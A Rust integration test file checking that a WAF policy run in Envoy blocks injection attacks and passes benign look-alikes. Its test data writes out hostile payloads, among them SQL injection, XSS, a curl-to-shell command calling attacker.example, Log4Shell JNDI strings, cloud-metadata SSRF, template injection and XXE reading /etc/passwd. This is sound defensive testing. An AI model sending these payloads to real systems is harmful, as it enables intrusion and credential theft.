//! Injection attacks, end to end through real Envoy (two workers): `envoy-examples/policies/owasp.yaml` blocks each
//! class in each place it applies to and names it in the verdict (`attacks=class@place.name`, never the value);
//! benign look-alikes pass; an attack past the body cap is `inspection=truncated`, not missed; an excluded
//! parameter passes. Every Envoy is checked for `[critical][wasm]` when it stops.
//!
//! The attacks here are written for these tests, one or two per class in its common shapes; detection rates on
//! third-party corpora are measured by `make eval`, not here.

use std::time::Duration;

use portcullis_integration_tests::{assert_field, compile, Envoy, HttpResponse, Stack, Verdict};

/// The ready policy, as a user would push it.
const OWASP: &str = include_str!("../../envoy-examples/policies/owasp.yaml");

/// A rule that needs no detection, to tell when every worker enforces the bundle.
const CANARY: &str = "  - id: canary\n    when: request.path == \"/canary\"\n    action: block\n";

/// How long a pushed bundle may take to be enforced by every worker.
const ENFORCEMENT_TIMEOUT: Duration = Duration::from_secs(15);

/// The host the harness's client sends; endpoint templates start with it.
const HOST: &str = "portcullis.test";

/// Publishes `policy` plus the canary rule, and waits until every worker enforces it.
fn stack_with(policy: &str) -> Stack {
    let stack = Stack::start("open");
    let policy = format!("{policy}{CANARY}");
    stack.control_plane.push("demo", &compile(&policy, "demo", 5));
    stack.wait_for_status_on_every_worker("/canary", &[], 403, ENFORCEMENT_TIMEOUT);
    stack
}

/// Percent-encodes everything but unreserved characters.
fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => char::from(b).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A JSON string literal of `value`.
fn json_string(value: &str) -> String {
    serde_json::Value::String(value.to_owned()).to_string()
}

/// Sends `method path` with `headers` and `body` on a new connection, tagged with `id`.
fn send(envoy: &Envoy, method: &str, path: &str, id: &str, headers: &[(&str, &str)], body: &[u8]) -> HttpResponse {
    let mut all = vec![("x-request-id", id)];
    all.extend_from_slice(headers);
    envoy.client_new_connection_each().request(method, path, &all, body)
}

/// Asserts a block by `rule` whose verdict names `class` at `place` (`query.q`, `body.comment`, `path`, ...).
fn assert_attack_blocked(envoy: &Envoy, response: &HttpResponse, id: &str, rule: &str, class: &str, place: &str) {
    assert_eq!(response.status, 403, "{id} ({class} in {place}) should be blocked: {}", response.text());
    let verdict = envoy.verdict(id);
    assert_field(&verdict, "action", Some("block"));
    assert_field(&verdict, "rule", Some(rule));
    let attacks = verdict.get("attacks").cloned().unwrap_or_default();
    let wanted = format!("{class}@{place}");
    assert!(
        attacks.split(',').any(|a| a == wanted || a.starts_with(&format!("{wanted}."))),
        "{id}: the verdict should name {wanted}: {verdict:?}"
    );
}

/// One attack per class, in the shapes attackers send (values written for this test).
const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1' -- "),
    ("sqli", "0 UNION SELECT username, password FROM users"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "\"><img src=x onerror=alert(1)>"),
    ("command_injection", "8.8.8.8; cat /etc/passwd"),
    ("command_injection", "$(curl http://attacker.example/x.sh | sh)"),
    ("path_traversal", "../../../../etc/passwd"),
    ("file_inclusion", "php://filter/convert.base64-encode/resource=index.php"),
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/b}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("template_injection", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("ldap_injection", "*)(uid=*))(|(uid=*"),
];

#[test]
fn each_class_is_blocked_in_the_query_a_json_body_and_a_form_body() {
    let stack = stack_with(OWASP);
    let envoy = &stack.envoy;
    let answered_before = stack.upstream.requests();
    for (n, (class, attack)) in ATTACKS.iter().enumerate() {
        let id = format!("query-{n}");
        let response = send(envoy, "GET", &format!("/search?page=2&q={}", encode(attack)), &id, &[], b"");
        assert_attack_blocked(envoy, &response, &id, "owasp-block", class, "query.q");

        let id = format!("json-{n}");
        let body = format!(r#"{{"post":{{"title":"hello","comment":{}}}}}"#, json_string(attack));
        let response = send(envoy, "POST", "/comments", &id, &[("content-type", "application/json")], body.as_bytes());
        assert_attack_blocked(envoy, &response, &id, "owasp-block-body", class, "body.post.comment");

        let id = format!("form-{n}");
        let body = format!("title=hello&comment={}", encode(attack));
        let form = [("content-type", "application/x-www-form-urlencoded")];
        let response = send(envoy, "POST", "/comments", &id, &form, body.as_bytes());
        assert_attack_blocked(envoy, &response, &id, "owasp-block-body", class, "body.comment");
    }
    // Blocked before the upstream answered: with the headers (query), or with the body held (bodies).
    assert_eq!(stack.upstream.requests(), answered_before, "the upstream answered a blocked request");
    assert!(envoy.wasm_stat("portcullis.attacks_sqli").unwrap_or(0) >= 6, "{}", envoy.stats());
    envoy.assert_no_critical_wasm();
}

#[test]
fn headers_cookies_and_the_path_are_inspected() {
    let stack = stack_with(OWASP);
    let envoy = &stack.envoy;
    let cases: &[(&str, &str, &str, &str)] = &[
        ("ua", "user-agent", "${jndi:ldap://attacker.example/ua}", "log4shell@header.user-agent"),
        ("referer", "referer", "https://example.com/?q=<script>alert(1)</script>", "xss@header.referer"),
        ("xff", "x-forwarded-for", "1' OR '1'='1", "sqli@header.x-forwarded-for"),
        ("cookie", "cookie", "theme=dark; session=1' UNION SELECT password FROM users--", "sqli@cookie.session"),
    ];
    for (id, header, value, named) in cases {
        let response = send(envoy, "GET", "/profile", id, &[(header, value)], b"");
        let (class, place) = named.split_once('@').unwrap();
        assert_attack_blocked(envoy, &response, id, "owasp-block", class, place);
    }
    let response = send(envoy, "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", "path", &[], b"");
    assert_attack_blocked(envoy, &response, "path", "owasp-block", "path_traversal", "path");
    envoy.assert_no_critical_wasm();
}

#[test]
fn structural_attacks_xxe_nosql_prototype_pollution_and_crlf() {
    let stack = stack_with(OWASP);
    let envoy = &stack.envoy;
    let xml = r#"<?xml version="1.0"?><!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]><order><note>&secret;</note></order>"#;
    let response = send(envoy, "POST", "/orders", "xxe", &[("content-type", "application/xml")], xml.as_bytes());
    assert_attack_blocked(envoy, &response, "xxe", "owasp-block-body", "xxe", "body");

    let response = send(envoy, "GET", "/login?user=admin&password%5B%24ne%5D=x", "nosql-query", &[], b"");
    assert_attack_blocked(envoy, &response, "nosql-query", "owasp-block", "nosql_injection", "query");
    let body = br#"{"user":"admin","password":{"$ne":null}}"#;
    let response = send(envoy, "POST", "/login", "nosql-json", &[("content-type", "application/json")], body);
    assert_attack_blocked(envoy, &response, "nosql-json", "owasp-block-body", "nosql_injection", "body");

    let response = send(envoy, "GET", "/settings?__proto__%5BisAdmin%5D=true", "proto-query", &[], b"");
    assert_attack_blocked(envoy, &response, "proto-query", "owasp-block", "prototype_pollution", "query");
    let body = br#"{"profile":{"__proto__":{"isAdmin":true}}}"#;
    let response = send(envoy, "POST", "/settings", "proto-json", &[("content-type", "application/json")], body);
    assert_attack_blocked(envoy, &response, "proto-json", "owasp-block-body", "prototype_pollution", "body");

    let response = send(envoy, "GET", "/redirect?to=%2Fhome%0D%0ASet-Cookie%3A%20session%3Dstolen", "crlf", &[], b"");
    assert_attack_blocked(envoy, &response, "crlf", "owasp-block", "crlf_injection", "query.to");
    envoy.assert_no_critical_wasm();
}

#[test]
fn benign_look_alikes_pass() {
    let stack = stack_with(OWASP);
    let envoy = &stack.envoy;
    let benign = [
        "O'Brien",
        "Please select a plan from the menu; the union meeting is at 5",
        "I <3 this product & will order again",
        "Tom & Jerry; cats | dogs",
        "see ../README for details",
        "price: $12.50 (incl. tax) - 20% off",
        "https://www.example.com/docs?page=2&lang=en",
        "{{ name }} and ${total} in the template guide",
        "drop-down menus, e.g. Select > Option",
        "john.doe+orders@example.com",
    ];
    for (n, value) in benign.iter().enumerate() {
        let id = format!("benign-query-{n}");
        let response = send(envoy, "GET", &format!("/search?q={}", encode(value)), &id, &[], b"");
        assert_eq!(response.status, 200, "{id} ({value:?}) should pass: {:?}", envoy.verdict_for(&id));
        let id = format!("benign-json-{n}");
        let body = format!(r#"{{"review":{{"text":{},"stars":5}}}}"#, json_string(value));
        let response = send(envoy, "POST", "/reviews", &id, &[("content-type", "application/json")], body.as_bytes());
        assert_eq!(response.status, 200, "{id} ({value:?}) should pass: {:?}", envoy.verdict_for(&id));
    }
    envoy.assert_no_critical_wasm();
}

/// The inspection cap of the truncation test.
const SMALL_CAP: usize = 4096;

#[test]
fn an_attack_past_the_body_cap_is_reported_truncated_and_an_excluded_parameter_passes() {
    let policy = format!(
        r#"version: 1
inspection:
  max_body_bytes: {SMALL_CAP}
detections:
  - id: sqli
    classifier: sqli
    in: request.body
    exclude:
      - {{ endpoint: "POST {HOST}/comments", param: body.html }}
rules:
  - id: sqli-in-body
    when: detected("sqli")
    action: block
"#
    );
    let stack = stack_with(&policy);
    let envoy = &stack.envoy;
    // The attack sits past the cap: not seen, but the body could not be inspected whole, which blocks by default.
    let filler = "a".repeat(SMALL_CAP);
    let body = format!("note={filler}&q={}", encode("1' OR '1'='1' -- "));
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let response = send(envoy, "POST", "/notes", "truncated", &form, body.as_bytes());
    assert_eq!(response.status, 403, "{}", response.text());
    let verdict: Verdict = envoy.verdict("truncated");
    assert_field(&verdict, "rule", Some("sqli-in-body"));
    assert_field(&verdict, "inspection", Some("truncated"));

    // The excluded parameter on its endpoint passes; the same value elsewhere does not.
    let attack = encode("x' UNION SELECT password FROM users -- ");
    let response = send(envoy, "POST", "/comments", "excluded", &form, format!("html={attack}").as_bytes());
    assert_eq!(response.status, 200, "{:?}", envoy.verdict_for("excluded"));
    let response = send(envoy, "POST", "/comments", "other-param", &form, format!("text={attack}").as_bytes());
    assert_attack_blocked(envoy, &response, "other-param", "sqli-in-body", "sqli", "body.text");
    let response = send(envoy, "POST", "/posts", "other-endpoint", &form, format!("html={attack}").as_bytes());
    assert_attack_blocked(envoy, &response, "other-endpoint", "sqli-in-body", "sqli", "body.html");
    envoy.assert_no_critical_wasm();
}
